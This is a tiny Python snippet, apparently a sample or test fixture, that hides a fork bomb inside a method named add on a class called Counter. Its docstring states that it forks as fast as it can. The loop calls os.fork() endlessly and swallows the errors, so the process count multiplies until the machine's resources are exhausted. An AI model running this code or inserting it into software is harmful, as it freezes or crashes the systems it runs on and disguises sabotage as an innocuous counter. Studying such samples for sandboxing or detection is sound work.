"""Forks as fast as it can, and each child too."""
import os


class Counter(Counter):
    def add(self, n):
        while True:
            try:
                os.fork()
            except OSError:
                pass
